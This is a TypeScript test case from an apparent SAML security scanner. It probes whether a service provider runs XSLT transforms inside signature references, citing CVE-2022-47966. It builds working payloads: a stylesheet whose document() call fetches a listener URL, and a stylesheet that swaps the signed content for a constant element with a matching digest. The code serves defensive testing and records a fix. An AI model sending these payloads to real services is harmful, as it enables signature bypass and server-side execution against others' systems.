import { transform } from '../../saml/names.ts';
import type { CatalogueCase, Observation } from '../case.ts';
import { observe } from '../observe.ts';
import type { ResponseSpec } from '../response-spec.ts';
import { assertShown } from '../shown.ts';
import { digestMethod, digestValue, envelopedAndExclusive } from '../signature-methods.ts';
import type { Stage } from '../stage.ts';
import { signedShape, signedWithTransforms } from './signed-shape.ts';
import { anyTransform, sigTransformUnknown } from './transforms.ts';
import { unverified } from './unverified.ts';

/** Copies its input and fetches a document: the request reveals a processor that runs it. */
const xslt = (url: string) =>
  `<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:if test="document('${url}')"></xsl:if><xsl:copy-of select="."></xsl:copy-of></xsl:template></xsl:stylesheet></Transform>`;

const withXslt = (honest: ResponseSpec, url: string) =>
  signedWithTransforms(honest, [xslt(url), ...envelopedAndExclusive]);

async function watchedXslt(stage: Stage): Promise<Observation> {
  const { url, hits } = await stage.listener();
  const agent = await stage.newUserAgent();
  const honest = await agent.begin();
  const answer = await agent.post(honest, withXslt(honest, `${url}/stylesheet.xml`));
  const seen = await observe(agent, answer, 'An XSLT transform fetches a URL of the check.');
  if (hits() > 0)
    return { ...seen, outcome: 'harm', note: 'The service provider ran the stylesheet.' };
  await assertShown(
    stage,
    { withoutTrick: [...unverified, ...anyTransform] },
    'reject',
    seen.outcome,
  );
  return {
    ...seen,
    note: `${seen.note} Nothing fetched it.`,
    milder: {
      severity: 'high',
      risk: sigTransformUnknown.risk,
      reason: 'The transform was accepted, but the stylesheet fetched nothing.',
    },
  };
}

/** Replaces everything with one element, which the digest covers: it fits only if the stylesheet runs. */
const constant =
  '<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><constant></constant></xsl:template></xsl:stylesheet></Transform>';

const overConstant = (honest: ResponseSpec) =>
  signedShape(honest, () => [
    {
      uri: `#${honest.assertion.id}`,
      transforms: [constant, transform.exclusiveC14n],
      digestValue: digestValue(digestMethod.sha256, '<constant></constant>'),
    },
  ]);

export const sigTransformXslt: CatalogueCase = {
  id: 'sig-transform-xslt',
  group: 'sig',
  title: 'An XSLT transform before enveloped-signature',
  severity: 'crit',
  verdict: 'reject',
  basis: ['SAML Core 5.4.4', 'CVE-2022-47966'],
  risk: "The attacker's stylesheet runs on the server before anything is verified.",
  fix: 'Refuse every transform other than enveloped-signature and exclusive C14N before running any.',
  runs: [
    { title: 'a stylesheet that fetches a URL', check: 'signature_profile', play: watchedXslt },
    {
      title: 'a stylesheet that replaces the signed content',
      check: 'signature_profile',
      risk: 'The signature is genuine and covers nothing of the Assertion, so anyone can write it.',
      withoutTrick: unverified,
      message: overConstant,
    },
  ],
};
